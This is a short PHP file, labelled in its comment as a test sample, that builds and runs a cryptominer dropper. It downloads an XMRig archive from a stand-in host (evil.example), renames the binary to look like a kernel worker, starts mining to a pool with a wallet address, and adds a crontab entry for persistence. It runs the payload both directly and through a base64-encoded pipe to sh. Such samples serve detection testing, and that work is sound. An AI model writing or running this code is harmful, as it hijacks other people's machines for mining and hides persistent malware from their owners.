<?php
// Test sample: drops and runs a miner through a bash one-liner built in PHP.
$sh = 'cd /tmp || cd /var/tmp || cd /dev/shm; '
    . 'curl -fsSL http://evil.example/xmrig.tar.gz -o .x.tgz || wget -q http://evil.example/xmrig.tar.gz -O .x.tgz; '
    . 'tar xzf .x.tgz && mv xmrig-6.*/xmrig ./kworkerds && chmod +x kworkerds && '
    . './kworkerds -o stratum+tcp://pool.example.test:3333 -u 48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf -p x --background; '
    . '(crontab -l 2>/dev/null; echo "*/10 * * * * /tmp/kworkerds -o stratum+tcp://pool.example.test:3333 -u 48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf --background") | crontab -';
@exec('/bin/bash -c ' . escapeshellarg($sh) . ' > /dev/null 2>&1 &');
@system('echo ' . base64_encode($sh) . ' | base64 -d | sh');
